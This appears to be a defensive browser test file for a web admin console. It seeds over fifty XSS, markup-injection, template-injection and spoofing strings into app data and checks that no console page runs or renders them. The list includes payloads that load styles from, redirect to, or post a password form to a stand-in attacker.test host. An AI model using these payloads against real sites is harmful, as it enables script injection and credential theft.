import { type Browser, chromium as browsers } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { chromium, describeWith } from '../engines/available.ts';
import { enter, settled, watch } from './pages.ts';
import { GOOD } from './server.ts';
import { startWhole, type WholeServer } from './whole-server.ts';

const RUN = 'window.ran=1';

/** Ways to become markup, script, style or a link, and texts that confuse a reader. */
const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">link</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">link</a>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD4=`,
  `<base href="https://attacker.test/">`,
  `<link rel=stylesheet href="https://attacker.test/x.css">`,
  `<style>*{display:none}</style>`,
  `<style>@import 'https://attacker.test/x.css'</style>`,
  `<meta http-equiv=refresh content="0;url=https://attacker.test">`,
  `<form action="https://attacker.test"><input name=password></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}">`,
  `<textarea autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<div style="background:url(https://attacker.test/x)">`,
  `<div onpointerover="${RUN}" style="position:fixed;inset:0">`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</td></table><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
  `<%= ${RUN} %>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<x onclick="${RUN}" tabindex=0 id=x>`,
  '\u202e\u2066evil.exe\u2069',
  '\u001b[31mred\u001b[0m\u001b]8;;javascript:1\u0007link\u001b]8;;\u0007',
  'first line\rsecond',
  '__proto__',
  'constructor',
  '=1+1',
  `%3Cscript%3E${RUN}%3C/script%3E`,
];

/** Variables of the app: all vectors that an environment can hold. */
const ENVIRONMENT = Object.fromEntries(VECTORS.map((vector, at) => [`VECTOR_${at}`, vector]));
const TABS = [
  ...['overview', 'deployments', 'logs', 'environment', 'domains', 'volumes'],
  ...['backups', 'runs', 'scale', 'terminal'],
];

describeWith('chromium', 'texts from outside', () => {
  let server: WholeServer;
  let browser: Browser;
  beforeAll(async () => {
    server = await startWhole({ text: VECTORS[1]!, env: ENVIRONMENT });
    const as = server.operator;
    const ran = { command: ['echo', ...VECTORS] };
    expect(
      (await server.call('POST', '/api/apps/web/runs?wait=true', ran, as)).status,
    ).toBeLessThan(300);
    for (const [index, name] of VECTORS.entries()) {
      await server.call('POST', '/api/authors', { name }, as);
      const email = `vector${index}@x.test`;
      // A header has no line breaks and only Latin letters.
      const agent = { 'User-Agent': name.replaceAll(/[^\x20-\x7e]/g, ' ') };
      const login = { email: 'viewer@x.test', password: index < 4 ? GOOD : name };
      await server.call('POST', '/api/auth/login', login, index < 8 ? agent : {});
      server.log.warn({ vector: name }, name);
      if (index >= 20) continue;
      await server.call('POST', '/api/auth/register', { email, password: GOOD, first_name: name });
    }
    browser = await browsers.launch({ executablePath: chromium ?? '', args: ['--no-sandbox'] });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.end();
  });

  it('are shown as they are and never run, on any page', async () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(50);
    const problems: string[] = [];
    const context = await browser.newContext();
    await enter(context, server, 'operator');
    const page = await context.newPage();
    await watch(page, server, problems);
    const { body } = await server.call('GET', '/api/console', undefined, server.operator);
    const rows = ['/console/data/authors?limit=100'];
    const user = '/console/users/3';
    const events = ['/console/users?tab=events', '/console/users?tab=log'];
    const app = TABS.map((tab) => `/console/apps/web?tab=${tab}`);
    const jobs = ['/console/jobs?tab=failed', '/console/jobs?job=2'];
    const paths = body.pages.map(({ path }: { path: string }) => path);
    for (const path of [...rows, user, ...events, ...app, ...jobs, ...paths]) {
      await page.goto(`${server.url}${path}`);
      await settled(page);
      expect([path, await page.evaluate('window.ran')]).toEqual([path, undefined]);
      expect([path, await page.locator(MARKUP).count()]).toEqual([path, 0]);
      expect([path, await page.evaluate(STRANGE_LINKS)]).toEqual([path, []]);
      expect(await page.title()).toMatch(/ · shop$/);
    }
    const shown = async (path: string, role: 'grid' | 'table', name: string) => {
      await page.goto(`${server.url}${path}`);
      const text = (await page.getByRole(role, { name, exact: true }).textContent()) ?? '';
      return VECTORS.filter((vector) => text.includes(vector));
    };
    expect((await shown(rows[0]!, 'grid', 'Author')).slice(0, 10)).toEqual(VECTORS.slice(0, 10));
    expect(await shown('/console/apps/web?tab=environment', 'table', 'Environment')).toEqual(
      VECTORS,
    );
    await page.goto(`${server.url}/console/apps/web?tab=runs`);
    await page.getByRole('button', { name: 'Output' }).first().click();
    const output = page.getByRole('dialog', { name: 'Output' });
    await output.getByText(VECTORS[0]!, { exact: false }).first().waitFor();
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(await page.locator(MARKUP.replace('main', 'dialog')).count()).toBe(0);
    await context.close();
    expect(problems).toEqual([]);
  });
});

/** Elements that only a vector makes. */
const MARKUP =
  'main :is(script, iframe, object, embed, base, link, style, meta, video, audio, marquee, math, template, x, [onerror], [onload], [onfocus], [onclick])';

/** Addresses of links with another scheme than those of the contract. */
const STRANGE_LINKS = `[...document.links].map(({ href }) => href)
  .filter((href) => !/^(https?|mailto|blob):/.test(href) || href.includes('attacker'))`;
